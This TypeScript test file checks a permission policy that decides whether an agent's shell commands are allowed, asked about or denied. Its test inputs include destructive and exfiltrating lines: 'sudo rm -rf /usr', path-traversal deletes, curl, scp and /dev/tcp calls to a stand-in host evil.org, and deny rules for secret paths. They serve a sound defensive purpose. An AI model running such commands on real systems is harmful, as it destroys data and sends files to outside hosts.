import assert from "node:assert/strict";
import { test } from "node:test";
import { type Asker, deedsOf, judge, rulesOf } from "#actors/policy/mod.ts";
import { covers, touches } from "#actors/policy/place.ts";
import { policySchema, type Rule } from "#subjects/policy.ts";
import { answerTo, WORLD } from "./lines.ts";

const OWNER: Asker = { role: "owner", kind: "worker", tool: "shell" };

test("deny beats ask beats allow, whatever their order", () => {
  const all: readonly Rule[] = [
    { effect: "deny", paths: ["a/**"], why: "denied" },
    { effect: "ask", paths: ["**"], why: "asked" },
    { effect: "allow", why: "allowed" },
  ];
  for (const rules of [all, all.toReversed()]) {
    assert.equal(answerTo("cat a/b", "owner", rules).effect, "deny");
    assert.equal(answerTo("cat b", "owner", rules).effect, "ask");
    assert.equal(answerTo("curl https://x.org", "owner", rules).effect, "allow");
  }
});

test("a rule that allows one part of a line allows no other", () => {
  const rules: readonly Rule[] = [{ effect: "allow", classes: ["destructive"], paths: ["build/**"], why: "made anew" }];
  assert.equal(answerTo("rm -rf build", "owner", rules).effect, "allow");
  assert.equal(answerTo("rm -rf build/*", "owner", rules).effect, "allow");
  assert.equal(answerTo("rm -rf build src", "owner", rules).effect, "ask");
  assert.equal(answerTo("rm -rf build/../src", "owner", rules).effect, "ask");
  assert.equal(answerTo("rm -rf build/$X", "owner", rules).effect, "ask");
  assert.equal(answerTo("cd src && rm -rf build", "owner", rules).effect, "ask");
});

test("a deny that is perhaps meant asks, and says so", () => {
  const rules: readonly Rule[] = [
    { effect: "allow", why: "all of it" },
    { effect: "deny", paths: ["secrets/**"], why: "secrets stay" },
  ];
  assert.deepEqual(answerTo('cat "$1"', "owner", rules), {
    effect: "ask",
    reasons: [
      {
        effect: "ask",
        rule: "perhaps: secrets stay",
        because: 'cat "$1": read somewhere that shows only at run time',
      },
    ],
  });
  assert.equal(answerTo("cat secrets/a", "owner", rules).effect, "deny");
  assert.equal(answerTo("grep -r x .", "owner", rules).effect, "deny");
  assert.equal(answerTo("ls", "owner", rules).effect, "allow");
});

test("hosts are known by their names, however they are written", () => {
  const rules: readonly Rule[] = [{ effect: "deny", hosts: ["*.evil.org", "evil.org", "127.0.0.1"], why: "evil" }];
  for (const line of [
    "curl http://EVIL.org/x",
    "curl user:word@a.evil.org:81",
    "wget -q evil.org",
    "git clone git@evil.org:a/b",
    "scp a me@evil.org:",
    "curl http://0x7f.1/",
    "cat < /dev/tcp/evil.org/80",
  ]) {
    assert.equal(answerTo(line, "owner", rules).effect, "deny", line);
  }
  assert.equal(answerTo("curl https://good.org/evil.org", "owner", rules).effect, "allow");
  assert.equal(answerTo("curl $X", "owner", rules).effect, "ask");
  const only: readonly Rule[] = [
    { effect: "allow", classes: ["network"], hosts: ["good.org"], why: "good" },
    { effect: "deny", who: { roles: ["user"] }, classes: ["install"], why: "no" },
  ];
  assert.equal(answerTo("curl https://good.org/x", "user", only).effect, "allow");
  assert.equal(answerTo("curl https://good.org/x https://b.org", "user", only).effect, "ask");
});

test("rules may be for roles, users, kinds and tools", () => {
  const rules: readonly Rule[] = [
    { effect: "allow", who: { users: ["telegram:47*"], kinds: ["worker"] }, tools: ["note*"], why: "theirs" },
  ];
  const said = (asker: Asker) => judge({ asker, deeds: [], world: WORLD }, rules).effect;
  const guest: Asker = { role: "guest", user: "telegram:4711", kind: "worker", tool: "note_add" };
  assert.equal(said(guest), "allow");
  assert.equal(said({ ...guest, tool: "shell" }), "deny");
  assert.equal(said({ ...guest, kind: "branch" }), "deny");
  assert.equal(said({ ...guest, user: "http:ci" }), "deny");
  assert.equal(said({ role: "guest", kind: "worker", tool: "note_add" }), "deny");
  assert.equal(said({ ...OWNER, tool: "anything" }), "allow");
});

test("an answer names the part of the line that led to it", () => {
  const { effect, reasons } = answerTo("ls && sudo rm -rf /usr");
  assert.equal(effect, "deny");
  assert.match(reasons[0]?.because ?? "", /^sudo rm -rf \/usr: destructive at \/usr and all below$/);
  assert.equal(reasons[0]?.rule, "it would take the machine, or a whole home, with it");
  assert.ok(reasons.every((reason) => reason.effect !== "allow"));
});

test("places are compared name by name, and from both sides", () => {
  const tree = { at: "/a/b", reach: "tree" } as const;
  const itself = { at: "/a/b", reach: "itself" } as const;
  const below = { at: "/a", reach: "below" } as const;
  assert.deepEqual(
    ["/a/**", "/a/b/**", "/a/*", "/**", "/a/b"].map((glob) => covers(glob, tree)),
    [true, true, false, true, false],
  );
  assert.deepEqual(
    ["/a/*", "/a/?", "/a/b", "/ab", "/a/b/c"].map((glob) => covers(glob, itself)),
    [true, true, true, false, false],
  );
  assert.deepEqual(
    ["/a/b/c/*", "/a", "/**/z", "/x/**"].map((glob) => touches(glob, tree)),
    [true, false, true, false],
  );
  assert.deepEqual(
    ["/a", "/a/x", "/*", "/a/**"].map((glob) => touches(glob, below)),
    [false, true, false, true],
  );
});

test("the shared rules stand in for the built-in ones, and an agent's own come besides", async () => {
  const stored = new Map([["main.POLICY", '{"rules":[{"effect":"deny","why":"own"}]}']]);
  const read = async (key: string) => stored.get(key);
  assert.deepEqual([...new Set((await rulesOf("main", read)).map(({ level }) => level))], ["built in", "own"]);
  stored.set("shared.POLICY", '{"rules":[{"effect":"ask","why":"all"}]}');
  assert.deepEqual(
    (await rulesOf("main", read)).map(({ why }) => why),
    ["all", "own"],
  );
  assert.deepEqual(
    (await rulesOf("shared", read)).map(({ why }) => why),
    ["all"],
  );
  stored.set("main.POLICY", "{");
  await assert.rejects(rulesOf("main", read), SyntaxError);
});

test("a rule with a word that nobody knows is no rule", () => {
  const wrong = { rules: [{ effect: "deny", path: ["/"], why: "a slip" }] };
  assert.equal(policySchema.safeParse(wrong).success, false);
  assert.equal(policySchema.safeParse({ rules: [{ effect: "deny", paths: [], why: "none" }] }).success, false);
});

test("a line that does the same twice is one deed", () => {
  assert.equal(deedsOf("ls; ls; ls", WORLD).length, 1);
});
